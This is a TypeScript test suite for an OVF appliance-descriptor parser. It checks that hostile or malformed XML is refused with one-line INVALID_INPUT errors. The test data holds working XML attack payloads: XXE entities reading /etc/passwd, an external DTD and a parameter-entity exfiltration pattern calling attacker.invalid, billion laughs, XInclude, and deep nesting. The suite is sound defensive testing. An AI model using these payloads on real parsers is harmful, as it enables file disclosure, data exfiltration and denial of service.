// Descriptors made to hurt: XML attacks, documents that are not OVF, and OVF that points at
// things it does not have. Each is refused with INVALID_INPUT and a message that says why, and
// nothing outside the descriptor is ever read.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { planAppliance } from '../../../../src-main/appliances/mapping.js';
import { HangarError } from '../../../../src-vmm/base/errors.js';

/** assert.throws validator: INVALID_INPUT whose message matches every pattern. */
function refused(...patterns: RegExp[]) {
  return (e: unknown) => {
    assert.ok(e instanceof HangarError, `expected a HangarError, got ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`);
    assert.equal(e.code, 'INVALID_INPUT', `code of: ${e.message}`);
    for (const p of patterns) assert.match(e.message, p);
    assert.doesNotMatch(e.message, /[\r\n]/, `messages are one line: ${JSON.stringify(e.message)}`);
    return true;
  };
}

const NS = 'xmlns="http://schemas.dmtf.org/ovf/envelope/1" xmlns:ovf="http://schemas.dmtf.org/ovf/envelope/1" xmlns:rasd="http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/CIM_ResourceAllocationSettingData"';

/** A valid one-machine OVF 1.0 descriptor with pieces replaceable. */
function ovf(parts: { prolog?: string; references?: string; disks?: string; items?: string; name?: string } = {}): string {
  const references = parts.references ?? '<File ovf:id="file1" ovf:href="disk1.vmdk"/>';
  const disks = parts.disks ?? '<Disk ovf:diskId="vmdisk1" ovf:fileRef="file1" ovf:capacity="1073741824"/>';
  const items =
    parts.items ??
    `<Item><rasd:Address>0</rasd:Address><rasd:ElementName>IDE 0</rasd:ElementName><rasd:InstanceID>3</rasd:InstanceID><rasd:ResourceType>5</rasd:ResourceType></Item>
      <Item><rasd:AddressOnParent>0</rasd:AddressOnParent><rasd:ElementName>disk</rasd:ElementName><rasd:HostResource>ovf:/disk/vmdisk1</rasd:HostResource><rasd:InstanceID>4</rasd:InstanceID><rasd:Parent>3</rasd:Parent><rasd:ResourceType>17</rasd:ResourceType></Item>`;
  return `<?xml version="1.0" encoding="UTF-8"?>
${parts.prolog ?? ''}<Envelope ${NS}>
  <References>${references}</References>
  <DiskSection><Info>Disks</Info>${disks}</DiskSection>
  <VirtualSystem ovf:id="victim">
    <Info>A machine</Info>
    <Name>${parts.name ?? 'victim'}</Name>
    <OperatingSystemSection ovf:id="101"><Info>OS</Info></OperatingSystemSection>
    <VirtualHardwareSection>
      <Info>Hardware</Info>
      <Item><rasd:ElementName>CPU</rasd:ElementName><rasd:InstanceID>1</rasd:InstanceID><rasd:ResourceType>3</rasd:ResourceType><rasd:VirtualQuantity>1</rasd:VirtualQuantity></Item>
      <Item><rasd:AllocationUnits>byte * 2^20</rasd:AllocationUnits><rasd:ElementName>Memory</rasd:ElementName><rasd:InstanceID>2</rasd:InstanceID><rasd:ResourceType>4</rasd:ResourceType><rasd:VirtualQuantity>512</rasd:VirtualQuantity></Item>
      ${items}
    </VirtualHardwareSection>
  </VirtualSystem>
</Envelope>
`;
}

const DTD = /DOCTYPE|DTD|document type/i;

describe('hostile descriptors', () => {
  test('the template itself is accepted (so each refusal below is about its one change)', () => {
    const plan = planAppliance(ovf(), 'victim.ovf');
    assert.equal(plan.machines.length, 1);
    assert.equal(plan.machines[0]!.disks.length, 1);
  });

  test('XXE: an external entity naming /etc/passwd is refused, and the file is not read', () => {
    const xxe = ovf({ prolog: '<!DOCTYPE Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', name: '&xxe;' });
    assert.throws(() => planAppliance(xxe, 'evil.ovf'), refused(DTD, /evil\.ovf/));
    try {
      planAppliance(xxe, 'evil.ovf');
    } catch (e) {
      assert.doesNotMatch((e as Error).message, /root:|daemon:|nologin/);
    }
  });

  test('XXE through an external DTD (DOCTYPE SYSTEM) is refused', () => {
    const doc = ovf({ prolog: '<!DOCTYPE Envelope SYSTEM "http://attacker.invalid/ovf.dtd">\n' });
    assert.throws(() => planAppliance(doc), refused(DTD));
  });

  test('billion laughs is refused before any entity is expanded', () => {
    const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('');
    const doc = ovf({ prolog: `<!DOCTYPE Envelope [<!ENTITY lol "lol">${entities}]>\n`, name: '&lol9;' });
    assert.throws(() => planAppliance(doc), refused(DTD));
  });

  test('a parameter-entity DTD (out-of-band exfiltration pattern) is refused', () => {
    const doc = ovf({
      prolog:
        '<!DOCTYPE Envelope [<!ENTITY % file SYSTEM "file:///etc/hostname"><!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd">%remote;%file;]>\n',
    });
    assert.throws(() => planAppliance(doc), refused(DTD));
  });

  test('an entity used without any DTD is refused', () => {
    assert.throws(() => planAppliance(ovf({ name: '&xxe;' })), refused(/entity|xxe|well-formed/i));
  });

  test('XInclude is not processed: nothing outside the descriptor appears in a plan', () => {
    const doc = ovf({ name: 'x<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>' });
    let plan;
    try {
      plan = planAppliance(doc);
    } catch (e) {
      assert.ok(e instanceof HangarError && e.code === 'INVALID_INPUT', `expected INVALID_INPUT or a plan, got ${String(e)}`);
      return;
    }
    assert.doesNotMatch(JSON.stringify(plan), /root:x:0|nologin/);
  });

  test('an XHTML page is not an OVF descriptor', () => {
    const xhtml = `<?xml version="1.0" encoding="UTF-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head><title>Download our appliance</title></head>
<body><p>Get <a href="appliance.ova">appliance.ova</a> (OVF 1.0).</p><div class="VirtualSystem">not one</div></body></html>`;
    assert.throws(() => planAppliance(xhtml, 'page.ovf'), refused(/OVF|Envelope/i));
  });

  test('an RSS feed is not an OVF descriptor', () => {
    const rss = `<?xml version="1.0"?>
<rss version="2.0"><channel><title>Appliance releases</title><link>https://example.invalid/</link>
<item><title>v2.7.1</title><enclosure url="https://example.invalid/netprobe.ova" length="318767104" type="application/ovf"/></item></channel></rss>`;
    assert.throws(() => planAppliance(rss), refused(/OVF|Envelope/i));
  });

  test('a SOAP envelope (right local name, wrong namespace, no virtual system) is not an OVF descriptor', () => {
    const soap = `<?xml version="1.0"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><RetrieveProperties xmlns="urn:vim25"/></soap:Body></soap:Envelope>`;
    assert.throws(() => planAppliance(soap), refused(/OVF|Envelope|virtual system|VirtualSystem/i));
  });

  test('empty documents are refused as empty', () => {
    assert.throws(() => planAppliance('', 'empty.ovf'), refused(/empty/i, /empty\.ovf/));
    assert.throws(() => planAppliance(' \n\t\r\n'), refused(/empty/i));
    assert.throws(() => planAppliance(new Uint8Array(0)), refused(/empty/i));
  });

  test('a document cut short is not well-formed', () => {
    const doc = ovf();
    assert.throws(() => planAppliance(doc.slice(0, Math.floor(doc.length * 0.6))), refused(/well-formed|unexpected|end/i));
  });

  test('binary data (an image, not text) is refused', () => {
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0xff, 0xfe, 0xc0]);
    assert.throws(() => planAppliance(png), refused(/UTF|text|well-formed/i));
  });

  test('a descriptor over the size limit is refused before it is parsed', () => {
    const huge = ovf({ name: 'x'.repeat(17 << 20) });
    assert.throws(() => planAppliance(huge), refused(/bytes|large|size/i));
  });

  test('nesting thousands of elements deep is refused', () => {
    const deep = ovf({ items: '<Item>' + '<rasd:Deep>'.repeat(5000) + '</rasd:Deep>'.repeat(5000) + '</Item>' });
    assert.throws(() => planAppliance(deep), refused(/deep|nest/i));
  });

  test('a hardware item naming a disk the DiskSection lacks is refused, naming the disk', () => {
    const items = `<Item><rasd:Address>0</rasd:Address><rasd:InstanceID>3</rasd:InstanceID><rasd:ResourceType>5</rasd:ResourceType></Item>
      <Item><rasd:AddressOnParent>0</rasd:AddressOnParent><rasd:HostResource>ovf:/disk/nosuchdisk</rasd:HostResource><rasd:InstanceID>4</rasd:InstanceID><rasd:Parent>3</rasd:Parent><rasd:ResourceType>17</rasd:ResourceType></Item>`;
    assert.throws(() => planAppliance(ovf({ items })), refused(/nosuchdisk/));
  });

  test('a disk whose fileRef is missing from References is refused, naming the file', () => {
    const disks = '<Disk ovf:diskId="vmdisk1" ovf:fileRef="file9" ovf:capacity="1073741824"/>';
    assert.throws(() => planAppliance(ovf({ disks })), refused(/file9/));
  });

  test('a refusal that quotes the descriptor stays on one line (line breaks in names and references)', () => {
    // found by fuzz.test.ts (seeds 11 and 13): the quoted text carried its line breaks into the message
    const items = `<Item><rasd:Address>0</rasd:Address><rasd:InstanceID>3</rasd:InstanceID><rasd:ResourceType>5</rasd:ResourceType></Item>
      <Item><rasd:AddressOnParent>0</rasd:AddressOnParent><rasd:ElementName>first line&#10;second line&#13;third</rasd:ElementName><rasd:HostResource>ovf:/disk/no
such</rasd:HostResource><rasd:InstanceID>4</rasd:InstanceID><rasd:Parent>3</rasd:Parent><rasd:ResourceType>17</rasd:ResourceType></Item>`;
    assert.throws(() => planAppliance(ovf({ items })), refused(/no\s*such/));
  });

  test('a CD whose ovf:/file/ reference is missing from References is refused, naming the file', () => {
    const items = `<Item><rasd:Address>0</rasd:Address><rasd:InstanceID>3</rasd:InstanceID><rasd:ResourceType>5</rasd:ResourceType></Item>
      <Item><rasd:AddressOnParent>0</rasd:AddressOnParent><rasd:HostResource>ovf:/disk/vmdisk1</rasd:HostResource><rasd:InstanceID>4</rasd:InstanceID><rasd:Parent>3</rasd:Parent><rasd:ResourceType>17</rasd:ResourceType></Item>
      <Item><rasd:AddressOnParent>1</rasd:AddressOnParent><rasd:HostResource>ovf:/file/file7</rasd:HostResource><rasd:InstanceID>5</rasd:InstanceID><rasd:Parent>3</rasd:Parent><rasd:ResourceType>15</rasd:ResourceType></Item>`;
    assert.throws(() => planAppliance(ovf({ items })), refused(/file7/));
  });
});
